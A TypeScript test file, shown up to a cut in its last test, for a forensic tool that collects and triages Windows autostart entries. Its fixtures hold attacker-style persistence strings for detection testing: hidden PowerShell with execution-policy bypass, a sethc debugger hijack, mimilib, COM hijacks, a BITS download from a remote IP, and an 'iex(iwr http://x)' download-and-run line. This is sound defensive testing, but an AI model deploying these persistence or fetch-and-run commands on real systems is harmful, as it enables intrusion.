// autoruns on Windows, the step alone: the real windows.ps1, composed with the prelude as the runner
// runs it, under real pwsh, against a recorded-shape workstation (test/fixtures/windows/autoruns;
// SOURCE.md there says where each shape comes from) whose registry is read through a stand-in for
// [Microsoft.Win32.RegistryKey] (test/fixtures/windows/fakes.ps1). The workstation has an Entra ID
// user and a local user logged on, a third profile whose hive is not loaded, a Run key the
// collecting account may not open among readable ones, a Run value named PSUpdater, launch strings
// bare, quoted, with %ProgramFiles(x86)% and per-user variables, and launchers in front of payloads.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { join } from 'node:path';
import type { StepSummary } from '../lib/script.ts';
import { AutorunRecord } from '../lib/records/schemas.ts';
import { deriveFacts } from '../lib/triage/engine.ts';
import { loadRules } from '../lib/triage/rules.ts';
import { FIXTURES, runWindowsStep } from './helpers.ts';

const ENTRA = 'S-1-12-1-3187654321-1122334455-2233445566-3344556677';
const KIOSK = 'S-1-5-21-1111111111-2222222222-3333333333-1001';
const OLD = 'S-1-5-21-1111111111-2222222222-3333333333-1002';
const RUN = 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run';

interface Run {
  summary: StepSummary;
  records: any[];
  stderrLog: string;
}

// BITS: bits-fakes.ps1 answers Get-BitsTransfer from Get-BitsTransfer.json and bitsadmin from
// bitsadmin.txt, each only where the host has that file.
const BITS_FAKES = join(FIXTURES, 'windows', 'autoruns', 'bits-fakes.ps1');
function runAutoruns(host: string, dir = join(FIXTURES, 'windows', 'autoruns', host), bits = true): Run {
  return runWindowsStep('autoruns', { fixtureDir: dir, fakes: [join(FIXTURES, 'windows', 'fakes.ps1'), ...(bits ? [BITS_FAKES] : [])], schema: AutorunRecord });
}

let run: Run;
test.before(() => {
  run = runAutoruns('workstation');
});
const entry = (name: string, location?: string) => {
  const found = run.records.filter((r) => r.entry === name && (!location || r.location === location));
  assert.is(found.length, 1, `one record for ${name}${location ? ' at ' + location : ''}: ${JSON.stringify(found)}`);
  return found[0];
};
const image = (r: any) => ({ imagePath: r.imagePath, launcher: r.launcher, imageExists: r.imageExists, signed: r.signed });

test('the step is ok although one key could not be read: the error is counted, a status record names the key, the keys after it still come', () => {
  assert.is(run.summary.status, 'ok', run.summary.message ?? run.stderrLog);
  assert.is(run.summary.errors, 1, run.stderrLog);
  assert.match(run.stderrLog, /cannot read HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce: Requested registry access is not allowed/);
  const denied = run.records.filter((r) => r.category === 'Status' && r.status === 'not-read');
  assert.equal(denied.map((r) => r.location), ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce']);
  assert.not.ok(run.records.some((r) => r.entry === 'Cleanup'), 'nothing of the unreadable key is made up');
  // Written as produced: the status record sits between the keys read before and after it.
  const at = (r: any) => run.records.indexOf(r);
  assert.ok(at(entry('SecurityHealth')) < at(denied[0]) && at(denied[0]) < at(entry('Adobe ARM')));
  assert.is(entry('Adobe ARM').location, 'HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run');
});

test('a Run value named PSUpdater is read (value names straight from the key), its script behind powershell -File', () => {
  const r = entry('PSUpdater');
  assert.is(r.location, `HKLM\\${RUN}`);
  assert.equal(image(r), { imagePath: 'C:\\ProgramData\\PSUpdate\\update.ps1', launcher: 'C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', imageExists: true, signed: false });
  assert.is(r.launchString, 'powershell.exe -NoProfile -WindowStyle Hidden -File "C:\\ProgramData\\PSUpdate\\update.ps1"');
});

test('environment variables anywhere in the string, %ProgramFiles(x86)% and quoted paths; the launch string stays as written', () => {
  assert.equal(image(entry('SecurityHealth')), { imagePath: 'C:\\WINDOWS\\system32\\SecurityHealthSystray.exe', launcher: null, imageExists: true, signed: true });
  assert.is(entry('SecurityHealth').launchString, '%windir%\\system32\\SecurityHealthSystray.exe', 'read unexpanded');
  const agent = entry('Contoso Agent');
  assert.equal(image(agent), { imagePath: 'C:\\Program Files (x86)\\Contoso\\Agent\\agent.exe', launcher: null, imageExists: true, signed: true });
  assert.match(agent.signer, /^CN="Contoso Ltd"/);
  assert.equal(image(entry('UpdSvc')), { imagePath: 'C:\\ProgramData\\Updater\\upd.exe', launcher: null, imageExists: true, signed: false }, '\\??\\ prefix');
  assert.is(entry('ContosoUpdater').imagePath, 'C:\\Program Files (x86)\\Contoso\\Agent\\cupdate.exe');
});

test('Winlogon: Shell=explorer.exe is C:\\Windows\\explorer.exe and present; every comma-separated Userinit entry is its own record', () => {
  assert.equal(image(entry('Shell')), { imagePath: 'C:\\WINDOWS\\explorer.exe', launcher: null, imageExists: true, signed: true });
  const userinit = run.records.filter((r) => r.entry === 'Userinit');
  assert.equal(userinit.map((r) => [r.launchString, r.imagePath, r.signed]), [
    ['C:\\Windows\\system32\\userinit.exe', 'C:\\Windows\\system32\\userinit.exe', true],
    ['C:\\Windows\\system32\\ntfsmon.exe', 'C:\\Windows\\system32\\ntfsmon.exe', false],
  ]);
});

test('an Entra ID user (S-1-12-1-…): its Run key, its own %APPDATA% and %LOCALAPPDATA%, never the collecting account\'s', () => {
  const loc = `HKU\\${ENTRA}\\${RUN}`;
  const one = entry('OneDrive', loc);
  assert.is(one.profile, ENTRA);
  assert.is(one.imagePath, 'C:\\Users\\ana.silva\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe');
  assert.is(one.launchString, '"%LOCALAPPDATA%\\Microsoft\\OneDrive\\OneDrive.exe" /background');
  assert.equal(image(entry('SyncUI', loc)), { imagePath: 'C:\\Users\\ana.silva\\AppData\\Roaming\\Sync\\syncui.dll', launcher: 'C:\\WINDOWS\\System32\\rundll32.exe', imageExists: true, signed: false });
  assert.equal(image(entry('Helper', loc)), { imagePath: 'C:\\Users\\ana.silva\\AppData\\Roaming\\helper\\h.hta', launcher: 'C:\\WINDOWS\\System32\\mshta.exe', imageExists: false, signed: null });
  assert.equal(image(entry('Tool', loc)), { imagePath: 'C:\\Users\\ana.silva\\Tools\\tool.exe', launcher: 'C:\\WINDOWS\\System32\\cmd.exe', imageExists: true, signed: false }, 'cmd /c start "" X');
  assert.not.ok(run.records.some((r) => /responder/i.test(JSON.stringify(r))), 'nothing resolved with the collecting account\'s profile');
});

test('launchers: regsvr32 /i:file, a bare name through the machine Path, wscript, a quoted DLL with spaces behind rundll32, powershell -File', () => {
  const loc = `HKU\\${KIOSK}\\${RUN}`;
  assert.equal(image(entry('Register', loc)), { imagePath: 'C:\\Users\\kiosk\\AppData\\Local\\Temp\\x.sct', launcher: 'C:\\WINDOWS\\System32\\regsvr32.exe', imageExists: true, signed: false });
  assert.equal(image(entry('Notes', loc)), { imagePath: 'C:\\Program Files\\Contoso\\bin\\notes.exe', launcher: null, imageExists: true, signed: true });
  assert.equal(image(entry('Logon', loc)), { imagePath: 'C:\\Users\\kiosk\\Documents\\logon.vbs', launcher: 'C:\\WINDOWS\\System32\\wscript.exe', imageExists: true, signed: false });
  assert.equal(image(entry('\\Contoso\\Tools refresh')), { imagePath: 'C:\\Program Files\\Contoso Tools\\ct.dll', launcher: 'C:\\WINDOWS\\system32\\rundll32.exe', imageExists: true, signed: true });
  assert.equal(image(entry('\\Sched')), { imagePath: 'C:\\Users\\Public\\sched.ps1', launcher: 'C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', imageExists: true, signed: false });
});

test('a svchost service\'s image is its ServiceDll (svchost kept as the launcher); drivers that can load, \\??\\ resolved, disabled ones left out', () => {
  const SVC = 'HKLM\\System\\CurrentControlSet\\Services';
  assert.equal(image(entry('LicenseManager', SVC)), { imagePath: 'C:\\WINDOWS\\System32\\LicenseManagerSvc.dll', launcher: 'C:\\WINDOWS\\system32\\svchost.exe', imageExists: true, signed: true });
  assert.equal(image(entry('WinUpdSvc', SVC)), { imagePath: 'C:\\ProgramData\\WinUpd\\wupd.dll', launcher: 'C:\\WINDOWS\\system32\\svchost.exe', imageExists: true, signed: false });
  assert.is(entry('WinUpdSvc', SVC).launchString, 'C:\\WINDOWS\\system32\\svchost.exe -k netsvcs');
  const drivers = run.records.filter((r) => r.category === 'Drivers');
  assert.equal(drivers.map((r) => [r.entry, r.imagePath, r.signed]), [
    ['ACPI', 'C:\\WINDOWS\\system32\\drivers\\ACPI.sys', true],
    ['wdmon', 'C:\\ProgramData\\drv\\wdmon.sys', false],
  ]);
});

test('StartupApproved: entries switched off in Task Manager (first byte odd) are enabled false, the rest true; per hive, Run and Run32', () => {
  const state = (name: string) => entry(name).enabled;
  assert.equal([state('SecurityHealth'), state('Contoso Agent'), state('PSUpdater'), state('Adobe ARM')], [true, false, true, false]);
  const loc = `HKU\\${ENTRA}\\${RUN}`;
  assert.equal([entry('OneDrive', loc).enabled, entry('Tool', loc).enabled, entry('SyncUI', loc).enabled], [true, false, true]);
});

test('a task whose security descriptor was removed (hidden from Get-ScheduledTask) is found in TaskCache\\Tree and read from its XML', () => {
  const hidden = run.records.filter((r) => r.hidden === true);
  assert.equal(hidden.map((r) => [r.location, r.entry, r.launchString, r.imagePath, r.signed, r.profile, r.time]), [
    ['Task Scheduler (hidden)', '\\Microsoft\\Windows\\UpdateSvc\\Sync', 'C:\\ProgramData\\WinUpd\\winupd.exe -s', 'C:\\ProgramData\\WinUpd\\winupd.exe', false, 'NT AUTHORITY\\SYSTEM', '2025-11-20T03:14:00.000Z'],
  ]);
  assert.match(hidden[0].description, /security descriptor/);
  assert.match(run.stderrLog, /\[warning\] hidden scheduled task \\Microsoft\\Windows\\UpdateSvc\\Sync/);
});

test('a profile whose hive is not loaded is named in a status record and a warning; system profiles are not', () => {
  const s = run.records.filter((r) => r.category === 'Status' && r.status === 'hive-not-loaded');
  assert.equal(s.map((r) => [r.location, r.profile]), [[`HKU\\${OLD}`, OLD]]);
  assert.match(s[0].description, /C:\\Users\\olduser/);
  assert.match(run.stderrLog, /\[warning\] the registry hive of S-1-5-21-1111111111-2222222222-3333333333-1002 \(C:\\Users\\olduser\) is not loaded/);
});

test('triage facts: the payload behind a launcher is what the rules weigh; status records give no facts to flag', () => {
  const sync = deriveFacts('autorun', entry('SyncUI', `HKU\\${ENTRA}\\${RUN}`))!;
  assert.equal([sync.userWritable, sync.imageMissing, sync.bareImage], [true, false, false]);
  const shell = deriveFacts('autorun', entry('Shell'))!;
  assert.equal([shell.imageMissing, shell.folder], [false, 'windows-root']);
  for (const r of run.records.filter((x) => x.category === 'Status')) {
    const f = deriveFacts('autorun', r)!;
    assert.equal([f.imageMissing, f.userWritable, f.targets], [false, false, []]);
  }
});

const STARTUP_KIOSK = 'C:\\Users\\kiosk\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup';
const STARTUP_ALL = 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp';

test('Startup folders: a shortcut is what it starts (target and arguments, read from its bytes), other files are themselves, desktop.ini is not an autostart', () => {
  const usb = entry('USB Key.lnk', STARTUP_ALL);
  assert.equal(image(usb), { imagePath: 'C:\\Program Files (x86)\\HDZB_USBKEY_NEW1G\\HDZB_USBKEY_NEW1G.exe', launcher: null, imageExists: true, signed: true });
  assert.is(usb.shortcut, `${STARTUP_ALL}\\USB Key.lnk`);
  assert.is(usb.profile, 'System-wide');
  // A USB worm's shortcut: cmd opens the folder, then runs the program beside it.
  const worm = entry('DeviceManager.lnk', STARTUP_KIOSK);
  assert.is(worm.launchString, 'C:\\Windows\\System32\\cmd.exe /c start _ & _\\DeviceManager.exe & exit');
  assert.equal([worm.launcher, worm.imagePath, worm.profile], ['C:\\Windows\\System32\\cmd.exe', '_\\DeviceManager.exe', KIOSK]);
  // Padded arguments: what Windows runs, not what Explorer's Target box shows.
  const padded = entry('Documents.lnk', STARTUP_KIOSK);
  assert.match(padded.launchString, /^C:\\Windows\\System32\\cmd\.exe \/c "set PATH=.*dokazatelstva\.zip.*unzip\.exe/s);
  const broken = entry('broken.lnk', STARTUP_KIOSK);
  assert.equal([broken.launchString, broken.imagePath], [null, null]);
  assert.match(broken.description, /^shortcut not read: cut short: 60 bytes/);
  assert.match(run.stderrLog, /shortcut C:\\Users\\kiosk\\.*\\broken\.lnk: cut short/);
  const bat = entry('svc.bat', STARTUP_KIOSK);
  assert.equal([bat.imagePath, bat.imageExists], [`${STARTUP_KIOSK}\\svc.bat`, true]);
  assert.not.ok(run.records.some((r) => r.entry === 'desktop.ini'));
});

test('scheduled tasks with a COM-handler action: the image is the class\'s InprocServer32 DLL, variables expanded; an unregistered class is said, with no image made up', () => {
  const sounds = entry('\\Microsoft\\Windows\\Multimedia\\SystemSoundsService');
  assert.equal([sounds.imagePath, sounds.signed, sounds.comHandler, sounds.launchString], ['C:\\WINDOWS\\System32\\PlaySndSrv.dll', true, '{2DEA658F-54C1-4227-AF9B-260AB5FC3543}', '{2DEA658F-54C1-4227-AF9B-260AB5FC3543}']);
  const odd = entry('\\OneDrive Reporting');
  assert.equal([odd.imagePath, odd.signed, odd.launchString], ['C:\\Users\\Public\\Libraries\\odrep.dll', false, '{5C2B8A1E-7D3F-4E96-9A0B-1F2E3D4C5B6A} telemetry']);
  const orphan = entry('\\Orphan handler');
  assert.equal([orphan.imagePath, orphan.enabled], [null, false]);
  assert.match(orphan.description, /COM handler \{00000000-1111-2222-3333-444444444444\} is not registered under HKLM\\SOFTWARE\\Classes\\CLSID/);
});

test('rules on them: shortcuts handing a command line to cmd fire magpie-autorun-shortcut-interpreter, an application\'s shortcut does not; an unsigned COM handler in Public is high', () => {
  const rules = loadRules();
  const fired = (r: any) => {
    const rec = { ...r, facts: deriveFacts('autorun', r) };
    return rules.filter((x) => x.def.logsource.category === 'autorun' && x.match(rec)).map((x) => x.def.id).sort();
  };
  assert.ok(fired(entry('DeviceManager.lnk')).includes('magpie-autorun-shortcut-interpreter'));
  assert.ok(fired(entry('Documents.lnk')).includes('magpie-autorun-shortcut-interpreter'));
  assert.equal(fired(entry('USB Key.lnk')), []);
  assert.equal(fired(entry('\\Microsoft\\Windows\\Multimedia\\SystemSoundsService')), []);
  assert.ok(fired(entry('\\OneDrive Reporting')).includes('magpie-autorun-unsigned-user-writable'));
});

test('persistence beyond Run keys: IFEO debuggers and SilentProcessExit monitors, AppInit DLLs, LSA packages by name in System32, netsh helpers, WMI consumers with their filter', () => {
  const IFEO = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options';
  const sethc = entry('Debugger', `${IFEO}\\sethc.exe`);
  assert.equal([sethc.category, sethc.hijacks, sethc.imagePath, sethc.signed], ['Image hijacks', 'sethc.exe', 'C:\\Windows\\System32\\cmd.exe', true]);
  const mon = entry('MonitorProcess');
  assert.equal([mon.hijacks, mon.imagePath, mon.signed], ['notepad.exe', 'C:\\ProgramData\\WinUpd\\winupd.exe', false]);
  assert.not.ok(run.records.some((r) => r.location.endsWith('\\msedge.exe')), 'MitigationOptions alone is no hijack');
  const appinit = entry('AppInit_DLLs', 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows');
  assert.equal([appinit.imagePath, appinit.enabled], ['C:\\ProgramData\\WinUpd\\wupd.dll', true]);
  assert.equal(entry('Security Packages: mimilib').imagePath, 'C:\\WINDOWS\\System32\\mimilib.dll');
  assert.equal(entry('Authentication Packages: msv1_0').signed, true);
  assert.not.ok(run.records.some((r) => r.entry === 'Security Packages: '), 'the empty "" package is no package');
  assert.equal(entry('dhcpclient').imagePath, 'C:\\WINDOWS\\System32\\dhcpcmonitor.dll');
  const wmi = entry('Updater', 'WMI root/subscription');
  assert.equal([wmi.consumerType, wmi.enabled, wmi.launcher], ['CommandLine', true, null]);
  assert.match(wmi.wmiFilter, /Win32_PerfFormattedData_PerfOS_System/);
  const script = entry('Unbound script');
  assert.equal([script.consumerType, script.scriptingEngine, script.enabled, script.imagePath], ['ActiveScript', 'VBScript', false, null]);
  assert.match(script.launchString, /WScript\.Shell/);
  assert.not.ok(run.records.some((r) => r.entry === 'SCM Event Log Consumer'), 'Windows\' own event-log consumer runs nothing');
});

// ---- issue 13: Winlogon Notify and Taskman, print monitors and providers, COM hijacks, BITS notify
// commands, Active Setup, service failure commands ----------------------------------------------
const fires = (rules: ReturnType<typeof loadRules>, r: any) => {
  const rec = { ...r, facts: deriveFacts('autorun', r) };
  return rules.filter((x) => x.def.logsource.category === 'autorun' && x.match(rec)).map((x) => `${x.def.level} ${x.def.id}`).sort();
};
const NEW_RULES = ['magpie-autorun-bits-notify', 'magpie-autorun-bits-notify-script', 'magpie-autorun-com-hijack', 'magpie-autorun-system-loader-suspicious'];
const row = (r: any) => [r.entry, r.launchString, r.imagePath, r.launcher, r.signed, r.enabled, r.profile];
const WINLOGON = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon';
const PRINT = 'HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print';

test('Winlogon: Taskman is one program (not a list); each Notify package\'s DllName, a bare name loaded from System32', () => {
  assert.equal(image(entry('Taskman')), { imagePath: 'C:\\Program Files\\Sysinternals\\procexp64.exe', launcher: null, imageExists: true, signed: true });
  assert.is(entry('Taskman').location, WINLOGON);
  const notify = run.records.filter((r) => r.category === 'Winlogon Notify');
  assert.equal(notify.map((r) => [r.location, ...row(r)]), [
    [`${WINLOGON}\\Notify\\WgaLogon`, 'WgaLogon', 'WgaLogon.dll', 'C:\\WINDOWS\\System32\\WgaLogon.dll', null, true, true, 'System-wide'],
    [`${WINLOGON}\\Notify\\SysHealth`, 'SysHealth', 'C:\\ProgramData\\SysHealth\\shlogon.dll', 'C:\\ProgramData\\SysHealth\\shlogon.dll', null, false, true, 'System-wide'],
  ]);
});

test('print monitors (Driver) and print providers (Name): the DLL by name in System32, a full path kept', () => {
  assert.equal(run.records.filter((r) => r.category === 'Print Monitors').map((r) => [r.location, r.entry, r.imagePath, r.signed]), [
    [`${PRINT}\\Monitors\\Local Port`, 'Local Port', 'C:\\WINDOWS\\System32\\localspl.dll', true],
    [`${PRINT}\\Monitors\\Standard TCP/IP Port`, 'Standard TCP/IP Port', 'C:\\WINDOWS\\System32\\tcpmon.dll', true],
    [`${PRINT}\\Monitors\\Print Helper`, 'Print Helper', 'C:\\ProgramData\\PrintSvc\\prnhelp.dll', false],
    [`${PRINT}\\Monitors\\AppMon`, 'AppMon', 'C:\\WINDOWS\\System32\\appmon64.dll', false],
  ]);
  assert.equal(run.records.filter((r) => r.category === 'Print Providers').map((r) => [r.entry, r.launchString, r.imagePath, r.signed]), [
    ['Internet Print Provider', 'inetpp.dll', 'C:\\WINDOWS\\System32\\inetpp.dll', true],
    ['LanMan Print Services', 'win32spl.dll', 'C:\\WINDOWS\\System32\\win32spl.dll', true],
  ]);
});

test('COM hijacks: a user class overriding a machine CLSID (the user\'s _Classes hive, or Software\\Classes), with the machine\'s server beside it; a user-only class is not one', () => {
  const com = run.records.filter((r) => r.category === 'COM hijacks');
  assert.equal(com.map((r) => [r.location, r.entry, r.imagePath, r.signed, r.profile, r.comServerKind, r.machineServer, r.machineImagePath, r.machineSigned]), [
    [`HKU\\${ENTRA}_Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32`, '{BCDE0395-E52F-467C-8E3D-C4579291692E}',
      'C:\\Users\\ana.silva\\AppData\\Roaming\\Microsoft\\Windows\\mmdevapi.dll', false, ENTRA, 'InprocServer32', '%SystemRoot%\\System32\\MMDevApi.dll', 'C:\\WINDOWS\\System32\\MMDevApi.dll', true],
    [`HKU\\${KIOSK}\\Software\\Classes\\CLSID\\{0002DF01-0000-0000-C000-000000000046}\\LocalServer32`, '{0002DF01-0000-0000-C000-000000000046}',
      'C:\\Users\\kiosk\\AppData\\Local\\Temp\\iexplore.exe', false, KIOSK, 'LocalServer32', '"C:\\Program Files\\Internet Explorer\\iexplore.exe"', 'C:\\Program Files\\Internet Explorer\\iexplore.exe', true],
  ]);
  assert.is(com[0].launchString, '%APPDATA%\\Microsoft\\Windows\\mmdevapi.dll', 'as written; expanded with the user\'s own %APPDATA%');
  assert.match(com[0].description, /MMDeviceEnumerator class/);
  assert.not.ok(run.records.some((r) => r.entry === '{A0396A93-DC06-4AEF-BEE9-95FFCCAEF20E}'), 'OneDrive\'s per-user class overrides nothing');
});

test('BITS: jobs with a notify command line (Get-BitsTransfer -AllUsers), the program then the parameters after their first word; jobs without one are not autostarts', () => {
  const bits = run.records.filter((r) => r.category === 'BITS jobs');
  assert.equal(bits.map((r) => [...row(r), r.bitsJobState, r.bitsTransferType, r.time]), [
    ['Windows Update Check', 'C:\\Windows\\System32\\cmd.exe /c C:\\Users\\ana.silva\\AppData\\Local\\Temp\\wuchk.exe', 'C:\\Users\\ana.silva\\AppData\\Local\\Temp\\wuchk.exe', 'C:\\Windows\\System32\\cmd.exe', false, true, 'CORP\\ana.silva', 'Error', 'Download', '2025-11-20T03:10:42.000Z'],
    ['Contoso Agent update', '"C:\\Program Files (x86)\\Contoso\\Agent\\cupdate.exe" /apply', 'C:\\Program Files (x86)\\Contoso\\Agent\\cupdate.exe', null, true, true, 'NT AUTHORITY\\SYSTEM', 'Transferred', 'Download', '2025-11-18T21:06:40.000Z'],
  ]);
  assert.equal(bits[0].bitsFiles, ['http://203.0.113.45/wu.exe -> C:\\Users\\ana.silva\\AppData\\Local\\Temp\\wuchk.exe']);
  assert.is(bits[0].bitsJobId, '8a2f6c3e-4b1d-4e7a-9f0c-2d5e8b1a7c34');
  assert.not.ok(run.records.some((r) => r.entry === 'Font Download'));
});

test('BITS without the BitsTransfer module: bitsadmin /list /allusers /verbose is read instead; with neither, a warning and no made-up record', () => {
  const dir = join(FIXTURES, 'windows', 'autoruns', 'bits-admin');
  const viaAdmin = runAutoruns('bits-admin', dir);
  assert.is(viaAdmin.summary.status, 'ok', viaAdmin.stderrLog);
  assert.equal(viaAdmin.records.map((r) => [...row(r), r.bitsJobId, r.bitsJobState, r.bitsFiles]), [
    ['Windows Update Check', 'C:\\Windows\\System32\\cmd.exe /c C:\\Users\\ana.silva\\AppData\\Local\\Temp\\wuchk.exe', 'C:\\Users\\ana.silva\\AppData\\Local\\Temp\\wuchk.exe', 'C:\\Windows\\System32\\cmd.exe', null, true, 'CORP\\ana.silva',
      '{8A2F6C3E-4B1D-4E7A-9F0C-2D5E8B1A7C34}', 'ERROR', ['http://203.0.113.45/wu.exe -> C:\\Users\\ana.silva\\AppData\\Local\\Temp\\wuchk.exe']],
  ]);
  const none = runAutoruns('bits-admin', dir, false);
  assert.equal([none.summary.status, none.summary.errors, none.records.length], ['ok', 0, 0]);
  assert.match(none.stderrLog, /\[warning\] BITS jobs not read: neither the BitsTransfer module nor bitsadmin\.exe is available/);
});

test('Active Setup: every component with a StubPath (Wow6432Node too), IsInstalled 0 is enabled false, a component without StubPath is none', () => {
  const as = run.records.filter((r) => r.category === 'Active Setup');
  assert.equal(as.map((r) => [r.componentId, ...row(r)]), [
    ['{6BF52A52-394A-11d3-B153-00C04F79FAA6}', 'Microsoft Windows Media Player', '%SystemRoot%\\system32\\unregmp2.exe /FirstLogon', 'C:\\WINDOWS\\system32\\unregmp2.exe', null, true, true, 'System-wide'],
    ['{7A3C5E91-2B4D-4F6A-9C8E-1D2F3A4B5C6D}', 'Microsoft Edge Update', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -ep bypass -File C:\\Users\\Public\\Libraries\\edgeupd.ps1',
      'C:\\Users\\Public\\Libraries\\edgeupd.ps1', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', false, true, 'System-wide'],
    ['{2C7339CF-2B09-4501-B3F3-F3508C9228ED}', 'Themes Setup', 'C:\\Users\\Public\\theme.exe', 'C:\\Users\\Public\\theme.exe', null, null, false, 'System-wide'],
    ['{89B4C1CD-B018-4511-B0A1-5476DBF70820}', '.NET Framework', 'C:\\Windows\\SysWOW64\\Rundll32.exe C:\\Windows\\SysWOW64\\mscories.dll,Install', 'C:\\Windows\\SysWOW64\\mscories.dll', 'C:\\Windows\\SysWOW64\\Rundll32.exe', true, true, 'System-wide'],
  ]);
  assert.match(as[3].location, /^HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Active Setup\\Installed Components\\/);
  assert.is(as[0].componentVersion, '12,0,19041,1');
});

test('service failure commands: FailureCommand, enabled only when FailureActions holds a run-command action (type 3); an empty one is none', () => {
  const fail = run.records.filter((r) => r.category === 'Service failure');
  assert.equal(fail.map((r) => [r.location, ...row(r)]), [
    ['HKLM\\SYSTEM\\CurrentControlSet\\Services\\LicenseManager', 'LicenseManager', 'wscript.exe C:\\Users\\Public\\lm.vbs', 'C:\\Users\\Public\\lm.vbs', 'C:\\WINDOWS\\System32\\wscript.exe', null, false, 'NT Authority\\LocalService'],
    ['HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinUpdSvc', 'WinUpdSvc', 'C:\\Windows\\System32\\cmd.exe /c C:\\ProgramData\\WinUpd\\winupd.exe -r', 'C:\\ProgramData\\WinUpd\\winupd.exe', 'C:\\Windows\\System32\\cmd.exe', false, true, 'LocalSystem'],
  ]);
  assert.match(fail[1].description, /run a command after the subsequent failure/);
  assert.match(fail[0].description, /no FailureActions entry runs it/);
  assert.not.ok(run.records.some((r) => r.category === 'Service failure' && r.entry === 'Spooler'));
});

test('rules: the planted entries are flagged high (BITS through cmd, a user COM DLL, a print monitor and a Notify DLL in ProgramData, an unsigned monitor in System32, a PowerShell StubPath, a failure command from ProgramData); Windows\' own are not', () => {
  const rules = loadRules();
  const ours = (r: any) => fires(rules, r).filter((h) => NEW_RULES.includes(h.split(' ')[1]));
  const got = Object.fromEntries(
    run.records.filter((r) => ['Winlogon Notify', 'Print Monitors', 'Print Providers', 'COM hijacks', 'BITS jobs', 'Active Setup', 'Service failure'].includes(r.category)).map((r) => [`${r.category}: ${r.entry}`, ours(r)]),
  );
  assert.equal(got, {
    'Winlogon Notify: WgaLogon': [],
    'Winlogon Notify: SysHealth': ['high magpie-autorun-system-loader-suspicious'],
    'Print Monitors: Local Port': [],
    'Print Monitors: Standard TCP/IP Port': [],
    'Print Monitors: Print Helper': ['high magpie-autorun-system-loader-suspicious'],
    'Print Monitors: AppMon': ['high magpie-autorun-system-loader-suspicious'],
    'Print Providers: Internet Print Provider': [],
    'Print Providers: LanMan Print Services': [],
    'COM hijacks: {BCDE0395-E52F-467C-8E3D-C4579291692E}': ['high magpie-autorun-com-hijack'],
    'COM hijacks: {0002DF01-0000-0000-C000-000000000046}': ['high magpie-autorun-com-hijack'],
    'BITS jobs: Windows Update Check': ['high magpie-autorun-bits-notify-script'],
    'BITS jobs: Contoso Agent update': ['medium magpie-autorun-bits-notify'],
    'Active Setup: Microsoft Windows Media Player': [],
    'Active Setup: Microsoft Edge Update': ['high magpie-autorun-system-loader-suspicious'],
    // Switched off (IsInstalled 0; no failure action runs the command): not this rule's.
    'Active Setup: Themes Setup': [],
    'Active Setup: .NET Framework': [],
    'Service failure: WinUpdSvc': ['high magpie-autorun-system-loader-suspicious'],
    'Service failure: LicenseManager': [],
  });
  // The same BITS job read through bitsadmin (no signature known) is judged the same.
  const viaAdmin = runAutoruns('bits-admin', join(FIXTURES, 'windows', 'autoruns', 'bits-admin'));
  assert.equal(ours(viaAdmin.records[0]), ['high magpie-autorun-bits-notify-script']);
  // A script host anywhere, or a program in a user folder, is high; anything else medium.
  const job = (launchString: string, imagePath: string, signed: boolean) => ({ location: 'BITS', entry: 'j', category: 'BITS jobs', launchString, imagePath, signed, imageExists: true });
  assert.equal(ours(job('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -c "iex(iwr http://x)"', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', true)), ['high magpie-autorun-bits-notify-script']);
  assert.equal(ours(job('C:\\Users\\bob\\AppData\\Roaming\\u.exe', 'C:\\Users\\bob\\AppData\\Roaming\\u.exe', true)), ['high magpie-autorun-bits-notify-script']);
  assert.equal(ours(job('C:\\Program Files\\Vendor\\apply.exe', 'C:\\Program Files\\Vendor\\apply.exe', true)), ['medium magpie-autorun-bits-notify']);
});

test('healthy server: Windows\' own print monitors, providers and Active Setup components, services without a failure command and BITS jobs without a notify command give nothing', () => {
  const healthy = runAutoruns('healthy-server', join(FIXTURES, 'windows', 'healthy-server'));
  assert.is(healthy.summary.status, 'ok', healthy.stderrLog);
  const mine = healthy.records.filter((r) => ['Winlogon Notify', 'Print Monitors', 'Print Providers', 'COM hijacks', 'BITS jobs', 'Active Setup', 'Service failure'].includes(r.category));
  assert.equal(mine.filter((r) => r.category === 'Print Monitors').map((r) => [r.entry, r.imagePath, r.signed]), [
    ['Local Port', 'C:\\Windows\\System32\\localspl.dll', true],
    ['Standard TCP/IP Port', 'C:\\Windows\\System32\\tcpmon.dll', true],
    ['USB Monitor', 'C:\\Windows\\System32\\usbmon.dll', true],
    ['WSD Port', 'C:\\Windows\\System32\\APMon.dll', true],
  ]);
  assert.equal(mine.filter((r) => r.category === 'Active Setup').map((r) => [r.entry, r.imagePath, r.signed, r.enabled]), [
    ['Themes Setup', 'C:\\Windows\\system32\\themeui.dll', true, true],
    ['Microsoft Windows Media Player', 'C:\\Windows\\system32\\unregmp2.exe', true, true],
    ['Internet Explorer', 'C:\\Windows\\System32\\ie4uinit.exe', true, true],
    ['Internet Explorer Enhanced Security Configuration', 'C:\\Windows\\System32\\iesetup.dll', true, true],
    ['Internet Explorer Enhanced Security Configuration', 'C:\\Windows\\System32\\iesetup.dll', true, false],
    ['.NET Framework', 'C:\\Windows\\SysWOW64\\mscories.dll', true, true],
  ]);
